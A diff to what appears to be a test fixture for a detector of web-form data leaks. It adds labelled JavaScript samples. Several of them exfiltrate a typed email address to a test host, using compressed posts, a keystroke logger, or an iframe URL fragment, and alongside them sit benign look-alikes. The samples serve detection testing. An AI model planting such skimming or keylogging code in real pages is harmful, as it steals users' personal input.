@@ -37,8 +37,8 @@ const digest = async (name, text) => {
   const bytes = new Uint8Array(await crypto.subtle.digest(name, new TextEncoder().encode(text)));
   return [...bytes].map((each) => each.toString(16).padStart(2, '0')).join('');
 };
-const packed = async (text) => {
-  const stream = new Blob([text]).stream().pipeThrough(new CompressionStream('gzip'));
+const packed = async (text, how = 'gzip') => {
+  const stream = new Blob([text]).stream().pipeThrough(new CompressionStream(how));
   return new Response(stream).arrayBuffer();
 };
 const socket = () => new WebSocket(AT.replace('http', 'ws') + '/ws');
@@ -101,6 +101,28 @@ LEAKS = {
         "encoded",
     ),
     "packed": (EMAIL, "m.onblur = async () => post('/z', await packed(m.value + 'x'.repeat(500)));", "plain"),
+    "deflated, without a head": (
+        EMAIL,
+        "m.onblur = async () => post('/z', await packed(m.value + 'x'.repeat(500), 'deflate-raw'));",
+        "plain",
+    ),
+    "the names of keys": (
+        EMAIL,
+        "const keys = []; addEventListener('keydown', (e) => keys.push({ code: e.code, t: e.timeStamp }));"
+        "m.onblur = () => post('/r', JSON.stringify(keys));",
+        "keystrokes",
+    ),
+    "behind the # of a new frame's address": (
+        EMAIL,
+        "m.onblur = () => { const frame = document.createElement('iframe'); frame.src = AT + '/frame#e=' + m.value;"
+        " document.body.append(frame); };",
+        "plain",
+    ),
+    "behind the # of a frame that is there": (
+        '<iframe id="f" src="AT/frame" title="Chat" width="300" height="60"></iframe>' + EMAIL,
+        "m.onblur = () => { f.src = AT + '/frame#e=' + encodeURIComponent(m.value); };",
+        "plain",
+    ),
     "in the Referer": (
         EMAIL,
         "m.onchange = () => { history.replaceState({}, '', '?e=' + m.value);"
@@ -135,6 +157,16 @@ INNOCENT = {
     ),
     "measuring that something was typed": (
         *(EMAIL, "m.oninput = () => post('/ev', JSON.stringify({ field: 'm', n: m.value.length, t: Date.now() }));"),
+    ),
+    "a recorder that hides what is typed": (
+        EMAIL,
+        "const keys = []; addEventListener('keydown', (e) => keys.push({ k: '*', t: e.timeStamp }));"
+        "const ids = Array.from({ length: 3000 }, (_, i) => [i % 7, i % 120]);"
+        "m.onblur = () => post('/r', JSON.stringify([keys, ids]));",
+    ),
+    "a password asked after by the start of its hash": (
+        PASSWORD,
+        "m.onblur = async () => fetch(AT + '/range/' + (await digest('SHA-1', m.value)).slice(0, 5)).catch(() => {});",
     ),
     "a draft that the shop keeps": (EMAIL, "m.oninput = () => localStorage.setItem('draft', m.value);"),
     "what the page's own policy keeps back": (
